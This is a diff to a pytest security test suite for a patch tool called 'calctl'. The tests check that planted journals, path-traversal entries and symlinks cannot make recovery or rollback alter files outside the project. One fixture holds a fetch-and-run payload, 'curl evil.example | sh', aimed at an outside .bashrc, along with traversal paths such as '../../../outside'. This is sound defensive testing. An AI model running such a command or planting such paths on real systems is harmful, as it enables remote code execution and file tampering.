@@ -20,24 +20,13 @@ from typing import Any
 import pytest
 
 from calctl import trust
+from support import files_and_links
 
 PID = "0123456789abcdef01234567"  # the shape calctl.ids.new_id() makes
 TS = "2024-01-01T00:00:00.000000+00:00"
 
 
 # ------------------------------------------------------------------ helpers
-
-
-def _files(root: Path) -> dict[str, tuple[bytes, int]]:
-    """Every file under ``root`` with its bytes and mode (links as their target)."""
-    out: dict[str, tuple[bytes, int]] = {}
-    for path in sorted(root.rglob("*")):
-        rel = path.relative_to(root).as_posix()
-        if path.is_symlink():
-            out[rel] = (os.readlink(path).encode(), -1)
-        elif path.is_file():
-            out[rel] = (path.read_bytes(), stat.S_IMODE(path.stat().st_mode))
-    return out
 
 
 @pytest.fixture
@@ -116,13 +105,13 @@ def test_planted_journal_deletes_nothing_outside(calctl: Any, proj: Path, outsid
     before: recovery would delete it. Neither recover nor an unrelated apply may."""
     path = str(outside / "victim.txt") if target == "abs" else "../outside/victim.txt"
     journal = _plant(proj, [_entry(path, existed=False)])
-    before = _files(outside)
+    before = files_and_links(outside)
 
     result = calctl("patch", "recover", cwd=proj)
     assert result.returncode == 3, result.stderr
     assert str(journal) in result.stdout and "not trusted" in result.stdout
     assert "untrusted journal" in result.stderr
-    assert _files(outside) == before
+    assert files_and_links(outside) == before
     assert journal.exists()  # reported and left alone
 
     applied = _unrelated_patch(calctl, proj)
@@ -130,7 +119,7 @@ def test_planted_journal_deletes_nothing_outside(calctl: Any, proj: Path, outsid
     assert "warning: ignored untrusted journal" in applied.stderr and str(journal) in \
         applied.stderr
     assert (proj / "app.txt").read_text() == "bye\n"
-    assert _files(outside) == before
+    assert files_and_links(outside) == before
     assert journal.exists()
 
 
@@ -154,11 +143,11 @@ def test_planted_blob_with_matching_sha_does_not_overwrite_outside(
     evil = b"curl evil.example | sh\n"
     journal = _plant(proj, [_entry("../outside/.bashrc", existed=True, data=evil, mode=0o755,
                                    blob="0")], blobs={"0": evil})
-    before = _files(outside)
+    before = files_and_links(outside)
     assert calctl("patch", "recover", cwd=proj).returncode == 3
     assert _unrelated_patch(calctl, proj).returncode == 0
     assert calctl("patch", "recover", cwd=proj).returncode == 3
-    assert _files(outside) == before
+    assert files_and_links(outside) == before
     assert stat.S_IMODE((outside / ".bashrc").stat().st_mode) == 0o644
     assert journal.exists()
 
@@ -171,11 +160,11 @@ def test_planted_rollback_of_unsealed_snapshot_is_refused(calctl: Any, proj: Pat
                          blob="0")], blobs={"0": evil}, phase="verified")
     state = proj / ".calctl"
     (state / "journal" / f"{PID}.json").rename(state / "snapshots" / PID / "journal.json")
-    before = _files(outside)
+    before = files_and_links(outside)
     result = calctl("patch", "rollback", "--force", PID, cwd=proj)
     assert result.returncode == 3
     assert "not trusted" in result.stderr
-    assert _files(outside) == before
+    assert files_and_links(outside) == before
 
 
 # ------------------------------------------------------------------ (c) sealed but unsafe
@@ -199,12 +188,12 @@ def test_sealed_manifest_with_escaping_path_is_refused(calctl: Any, proj: Path,
     _plant(proj, [_entry("app.txt", existed=True, data=b"hello\n", mode=0o644, blob="0"),
                   _entry(path, existed=True, data=evil, mode=0o644, blob="1")],
            blobs={"0": b"hello\n", "1": evil}, sealed=True, files=["app.txt"])
-    before_out, before_proj = _files(outside), _files(proj)
+    before_out, before_proj = files_and_links(outside), files_and_links(proj)
     result = calctl("patch", "recover", cwd=proj)
     assert result.returncode == 3, (result.stdout, result.stderr)
     assert "nothing was restored" in result.stderr
-    assert _files(outside) == before_out
-    after_proj = _files(proj)
+    assert files_and_links(outside) == before_out
+    after_proj = files_and_links(proj)
     after_proj.pop(".calctl/locks/patch.lock", None)
     before_proj.pop(".calctl/locks/patch.lock", None)
     assert {k: v for k, v in after_proj.items() if not k.startswith(".calctl/")} == \
@@ -257,11 +246,11 @@ def test_sealed_journal_with_unsafe_patch_id_is_not_acted_on(calctl: Any, proj: 
     record = json.loads(journal.read_bytes().partition(b"\n")[2])
     record["patch_id"] = "../../../outside"
     _write(journal, record, "journal", True)
-    before = _files(outside)
+    before = files_and_links(outside)
     result = calctl("patch", "recover", cwd=proj)
     assert result.returncode == 3
     assert "not the id its file name gives" in result.stderr
-    assert _files(outside) == before
+    assert files_and_links(outside) == before
 
 
 # ------------------------------------------------------------------ (d) modes
@@ -361,11 +350,11 @@ def test_planted_link_in_state_dir_is_not_written_through(calctl: Any, proj: Pat
     if link.is_dir():
         link.rmdir()
     link.symlink_to(outside if name == "journal" else outside / ".bashrc")
-    before = _files(outside)
+    before = files_and_links(outside)
     result = _unrelated_patch(calctl, proj)
     assert result.returncode == 3, (result.stdout, result.stderr)
     assert "link" in result.stderr
-    assert _files(outside) == before
+    assert files_and_links(outside) == before
     assert (proj / "app.txt").read_text() == "hello\n"
 
 
@@ -376,7 +365,7 @@ def _git(repo: Path, *args: str) -> None:
     subprocess.run(["git", *args], cwd=repo, check=True, capture_output=True)
 
 
-def test_warns_when_git_tracks_state_files(calctl: Any, git_repo: Path) -> None:
+def test_warns_when_git_tracks_statefiles_and_links(calctl: Any, git_repo: Path) -> None:
     (git_repo / "migrations").mkdir()
     (git_repo / "migrations" / "001.sql").write_text("create table t(id int);\n")
     (git_repo / "calctl.toml").write_text('[migrate]\ndir = "migrations"\n')
